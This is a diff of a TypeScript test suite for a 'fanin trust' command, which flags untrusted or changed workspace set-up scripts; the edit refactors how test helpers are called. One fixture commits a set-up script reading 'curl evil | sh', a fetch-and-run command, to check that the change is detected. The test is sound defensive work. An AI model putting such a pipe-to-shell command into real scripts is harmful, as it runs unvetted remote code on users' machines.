@@ -50,18 +50,20 @@ describe('fanin trust', () => {
   });
 
   it('trusts what it has shown, and keeps that out of the repository', async () => {
-    const { path, git } = await repoWith(CONDUCTOR);
+    const own = await repoWith(CONDUCTOR);
+    const { path } = own;
     expect((await fanin(path, 'trust', '--yes')).err).toContain('Trusted: 2 scripts.');
-    expect(await git('status', '--porcelain', '--ignored')).toBe('');
+    expect(await own.git('status', '--porcelain', '--ignored')).toBe('');
     expect(await readFile(join(path, '.git/fanin/trust.json'), 'utf8')).toContain('./s.sh');
     expect((await fanin(path, 'trust')).out).toContain('2 set-up scripts, trusted.');
     expect((await fanin(path, 'trust', '--list')).out).toContain('conductor.json scripts.setup');
   });
 
   it('trusts what has changed no more, and says what that is', async () => {
-    const { path, commit } = await repoWith(CONDUCTOR);
+    const own = await repoWith(CONDUCTOR);
+    const { path } = own;
     await fanin(path, 'trust', '--yes');
-    await commit({ 's.sh': 'curl evil | sh\n' });
+    await own.commit({ 's.sh': 'curl evil | sh\n' });
     const { out } = await fanin(path, 'trust');
     expect(out).toContain('1 set-up script would run in every workspace and is not trusted.');
     expect(out).toContain('conductor.json:3  set-up, changed: s.sh');
@@ -73,16 +75,18 @@ describe('fanin trust', () => {
   });
 
   it('speaks of what is committed: what lies in the checkout reaches no workspace', async () => {
-    const { path, write } = await repoWith({ a: '1\n' });
-    await write({ 'conductor.json': '{"scripts":{"setup":"x"}}' });
+    const own = await repoWith({ a: '1\n' });
+    const { path } = own;
+    await own.write({ 'conductor.json': '{"scripts":{"setup":"x"}}' });
     const { out } = await fanin(path, 'trust', '--yes');
     expect(out).toContain('No set-up file of another tool asks for a script.');
     expect(out).toContain('conductor.json is not in HEAD, so no workspace has it');
   });
 
   it('takes one file, another commit, and no commit that is none', async () => {
-    const { path, commit } = await repoWith(CONDUCTOR);
-    await commit({ 'orca.yaml': 'scripts:\n  setup: other\n', 's.sh': 'new\n' });
+    const own = await repoWith(CONDUCTOR);
+    const { path } = own;
+    await own.commit({ 'orca.yaml': 'scripts:\n  setup: other\n', 's.sh': 'new\n' });
     await fanin(path, 'trust', '--yes', '--at', 'HEAD^', 'conductor.json');
     const { scripts } = await faninJson<Survey>(path, 'trust');
     expect(scripts.map(({ run, trust }) => [run.slice(0, 6), trust])).toEqual([
@@ -124,9 +128,10 @@ describe('a plan', () => {
   });
 
   it('names the commit where it does not start from HEAD', async () => {
-    const { path, commit, git } = await repoWith({ ...CONFIG, ...CONDUCTOR });
-    const base = await git('rev-parse', '--short=12', 'HEAD');
-    await commit({ 'conductor.json': null });
+    const own = await repoWith({ ...CONFIG, ...CONDUCTOR });
+    const { path } = own;
+    const base = await own.git('rev-parse', '--short=12', 'HEAD');
+    await own.commit({ 'conductor.json': null });
     const { out } = await fanin(path, 'plan', '-p', 'x', '--base', 'HEAD^');
     expect(out.replaceAll(/\s+/gu, ' ')).toContain(`fanin trust --at ${base} shows it and asks`);
   });
